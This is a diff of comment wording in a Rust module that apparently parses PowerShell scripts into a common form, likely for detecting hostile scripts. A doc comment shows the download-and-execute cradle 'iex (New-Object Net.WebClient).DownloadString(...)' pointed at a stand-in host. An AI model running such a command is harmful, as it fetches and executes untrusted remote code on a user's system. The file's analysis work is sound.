@@ -1,7 +1,7 @@
 //! PowerShell into the common form, from tokens.
 //!
-//! There is no grammar for PowerShell here, and what matters needs none: commands and their words, pipes, assignments, method calls and the
-//! handful of operators that put texts together. A statement that begins with a value is an expression, any other is a command.
+//! There is no grammar for PowerShell here, and the relevant parts need none: commands and their words, pipes, assignments, method calls
+//! and the few operators that concatenate strings. A statement that begins with a value is an expression, any other is a command.
 //!
 //! ```text
 //! iex (New-Object Net.WebClient).DownloadString('http://x')
@@ -20,7 +20,7 @@ use crate::form::{Arg, At, CallExpr, Expr, LoweredProgram, Stmt, WRITE};
 
 /// Texts above this many bytes are not read, nor are batch files.
 pub(super) const LIMIT: usize = 128 << 10;
-/// How deep parentheses and blocks may nest.
+/// The maximum nesting of parentheses and blocks.
 const DEPTH: usize = 60;
 /// How many operators or members may follow each other before they are just parts.
 const CHAIN: usize = 16;
@@ -564,7 +564,7 @@ const ALIASES: &[(&str, &str)] = &[
     ("wget", "invoke-webrequest"),
 ];
 
-/// A command's name: lower case, without folder, spelt out. `curl.exe` is the program and no alias.
+/// A command's name: lower case, without folder, spelt out. `curl.exe` is the program, not the alias.
 fn program(word: &str) -> String {
     let name = word
         .rsplit(['\\', '/'])
